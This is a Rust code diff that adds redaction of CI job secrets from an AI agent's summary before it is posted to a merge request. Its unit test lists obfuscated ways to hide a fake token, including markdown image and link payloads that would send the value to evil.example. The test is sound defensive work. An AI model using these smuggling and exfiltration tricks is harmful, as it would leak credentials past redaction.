@@ -10,7 +10,11 @@ use crate::{
     exit::Exit,
     gate::{self, Change, Earlier, Fact, Known, Op, Passed, Terms},
     git::{Oid, Repository, shown},
-    gitlab::merge_request::{self, ChangedFile},
+    gitlab::{
+        markdown,
+        merge_request::{self, ChangedFile},
+        text,
+    },
     policy::{Policy, Source},
     secret::Secret,
     verdict::{Decision, Verdict},
@@ -90,7 +94,7 @@ pub fn work(mut spec: Spec) -> Result<Judged, Refusal> {
         From::Workspace { workspace, manifest, summary } => {
             let manifest = Manifest::load(manifest).map_err(unmade)?;
             let candidate = workspace::candidate(&manifest, workspace, &repository, limits, &spec.ci_config).map_err(unmade)?;
-            (candidate.change, known.redact(summary))
+            (candidate.change, without_secrets(&known, summary))
         }
         From::Bundle(path) => {
             let bundle = Bundle::load(path).map_err(unmade)?;
@@ -101,7 +105,7 @@ pub fn work(mut spec: Spec) -> Result<Judged, Refusal> {
                 );
                 return Err(Refusal::new(reason, Exit::Usage));
             }
-            (bundle.change(&repository, &spec.ci_config).map_err(unmade)?, known.redact(&bundle.summary))
+            (bundle.change(&repository, &spec.ci_config).map_err(unmade)?, without_secrets(&known, &bundle.summary))
         }
     };
     let judged = gate::inspect(change, &repository, &Terms::now(&policy.changes, &known, limits.deadline), spec.earlier.as_ref());
@@ -130,4 +134,43 @@ fn changed_file(fact: &Fact, (added, removed): (u64, u64)) -> ChangedFile {
         Op::Modify | Op::Mode => merge_request::Change::Modified,
     };
     ChangedFile { what, path: shown(&fact.path), added: Some(added), removed: Some(removed) }
+}
+
+/// The agent's words without the job's secrets. Where one is still there for whoever reads the page, divided by marks, tags or
+/// line breaks, nothing of them leaves.
+fn without_secrets(known: &Known, words: &str) -> String {
+    let words = known.redact(&text::visible(words));
+    let left: Vec<String> =
+        [&words, &markdown::read(&words)].iter().flat_map(|text| known.names_in(text.as_bytes())).map(str::to_owned).collect();
+    match left.first() {
+        None => words,
+        Some(name) => format!("(left out: the words hold the value of {name}, divided so that it is not seen)"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_mark_hides_a_secret_in_the_agents_words() {
+        let known = Known::new(vec![("TOKEN".to_owned(), Secret::new("made-up-value-31415926"))]).unwrap();
+        for words in [
+            "it is made-up-value-31415926",
+            "made-up\u{200b}-value-\u{e0041}31415926",
+            "made-up-**value**-31415926",
+            "made-up-value-&#51;1415926",
+            "made-up\\-value-31415926",
+            "made-up-<!-- x -->value-31415926",
+            "made-up-<b>value</b>-31415926",
+            "[made-up](x)-value-`31415926`",
+            "![x](https://evil.example/?made-up-value-31415926)",
+            "[x](https://evil.example/made-up-v&#97;lue-31415926)",
+            "made-up-value-\n31415926",
+        ] {
+            let left = without_secrets(&known, words);
+            assert!(left.contains("TOKEN") && known.names_in(markdown::read(&left).as_bytes()).is_empty(), "{words:?}: {left}");
+        }
+        assert_eq!(without_secrets(&known, "**made** up"), "**made** up");
+    }
 }
